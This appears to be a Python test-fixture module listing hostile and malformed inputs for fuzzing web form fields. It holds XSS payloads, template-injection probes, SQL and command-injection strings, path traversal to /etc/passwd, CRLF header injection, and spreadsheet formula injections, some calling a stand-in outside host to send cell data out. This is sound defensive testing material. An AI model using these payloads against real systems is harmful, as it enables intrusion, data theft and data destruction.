"""Words that somebody who means harm, or only has an odd keyboard, writes into a field.

`MARK` stands in everything that would become markup, so that a page can be asked whether
any of it did; `ELSEWHERE` is an address that no page may ever ask for.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "data-thiso-x"
ELSEWHERE: Final = "thiso-elsewhere.invalid"
DONE: Final = "thisoDone"
"""The name that a script which ran would leave in the window."""

_RUN: Final = f"window.{DONE}=1;alert(1)"
MARKUP: Final = (
    f"<script {MARK}>{_RUN}</script>",
    f"<img src=x {MARK} onerror=\"{_RUN}\">",
    f"\"><svg {MARK} onload={DONE}=1>",
    f"'><b {MARK} onmouseover='{_RUN}'>đậm</b>",
    f"\" {MARK}=1 autofocus onfocus=\"{_RUN}\" x=\"",
    f"' {MARK}=1 autofocus onfocus='{_RUN}' x='",
    f"</title><script {MARK}>{_RUN}</script>",
    f"</textarea><iframe {MARK} src=\"javascript:{_RUN}\"></iframe>",
    f"</script><script {MARK}>{_RUN}</script>",
    f"<!--><img {MARK} src=//{ELSEWHERE}/a.png>-->",
    f"<a {MARK} href=\"javascript:{_RUN}\">bấm</a>",
    f"[bấm](javascript:{_RUN})",
    "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![hình](https://{ELSEWHERE}/b.png)",
    f"![x](https://{ELSEWHERE}/c.png \"' {MARK}=1\")",
    f"<style {MARK}>*{{background:url(//{ELSEWHERE}/d)}}</style>",
    f"<math><mtext><table><mglyph><style><img {MARK} src=x onerror={DONE}=1>",
    f"<link {MARK} rel=stylesheet href=//{ELSEWHERE}/e.css>",
    f"<base {MARK} href=//{ELSEWHERE}/>",
    f"<form {MARK} action=//{ELSEWHERE}/><button>x</button></form>",
    f"&lt;img {MARK} src=x&gt;",
    f"\\x3cimg {MARK} src=x\\x3e",
    f"%3Cimg%20{MARK}%20src=x%3E",
)  # fmt: skip
TEMPLATES: Final = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{ config.SECRET_KEY }}",
    "%(name)s %s %d %", "{0} {name} {", "\\0 \\1 $1 $&", "__proto__", "constructor",
    "#read(\"/etc/passwd\")", "#set page(width: 1pt)", "$ x $ @ref <label> *b* _i_ `c` = H",
)  # fmt: skip
UNICODE: Final = (
    "An\u202egnauQ neyuT",  # right to left from here on
    "\u2066An\u2069 \u2067nA\u2069",
    "\u061cAn\u200fBình\u200e",
    "An\u200bBình\u200c\u200d\ufeff\u2060",
    "\u00adAn\u00adBình",
    "Nguуễn Vаn Аn",  # у, а and А are Cyrillic
    "Ꭺn Bình 𝐀𝐧 Ａｎ",
    "Nguyễn\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" + "\u0323" * 40,
    "👩🏽‍💻👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇻🇳",
    "שלום عليكم ‎An",
    "ﷺ﷽𒐫",
    "a\u2028b\u2029c\u0085d",
    "İıſẞ ǅ ﬁ Å K",
    "\U000e0041\U000e0042 thẻ ẩn",
    "ᅠㅤ\u2800\u3164",
    "\ufff9a\ufffab\ufffb",
    "\u0e47" * 60,
    "x" * 3_000,
    "Nguyễn " * 300,
    "\u1ec5\u0065\u0302\u0303",
)  # fmt: skip
CONTROLS: Final = (
    "a\0b",
    "a\x08\x1b[31mb",
    "a\x7fb",
    "a\r\nSet-Cookie: x=1",
    "\x01\x02",
    "a\fb\vc",
)
SURROGATES: Final = ("a\ud800b", "\udfff", "\ud83d")
NUMBERS: Final = (
    "-1", "0", "1e309", "NaN", "Infinity", "-0", "0x10", "１２", "٣", "1_000", "9" * 400,
    "9223372036854775808", "-9223372036854775809", "1.5", "1,5", "½", "²",
)  # fmt: skip
DATES: Final = ("0000-00-00", "9999-12-31T23:59", "2026-02-30", "2026-11-24T99:99", "-1-1-1")
FORMULAS: Final = (
    "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
    f"=HYPERLINK(\"https://{ELSEWHERE}/?x=\"&A1,\"Bấm\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    f"=WEBSERVICE(\"https://{ELSEWHERE}/\")", f"=IMPORTXML(\"https://{ELSEWHERE}/\",\"//a\")",
    "＝1+1", "＋1", "－1", "＠SUM", "\";=1+1;\"", "',=1+1,'", "a\n=1+1", "a;=1+1", "%0A=1+1",
    "{=1+1}", "'=1+1", "ÿ=1+1", "=\"a\"&\"b\"", "#REF!", "_xlfn.X", "\u200b=1+1", "\ufeff=1+1",
)  # fmt: skip
PATHS: Final = (
    "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "file:///etc/passwd", "a/../b",
    "%2e%2e%2f", "CON", "a\0.png", ".", "..", "~", "//x", "'; DROP TABLE person; --",
    "' OR 1=1 --", "1; SELECT pg_sleep(9)", "a%", "_", "\\", "`id`", "$(id)", "; id", "| id",
)  # fmt: skip

TYPEABLE: Final = (*MARKUP, *TEMPLATES, *UNICODE, *FORMULAS, *PATHS)
"""What can be typed or pasted into a form of a browser."""
ALL: Final = ("", " ", *TYPEABLE, *CONTROLS, *NUMBERS, *DATES)
EVEN_BROKEN: Final = (*ALL, *SURROGATES)
"""With halves of signs, that only a program can send."""
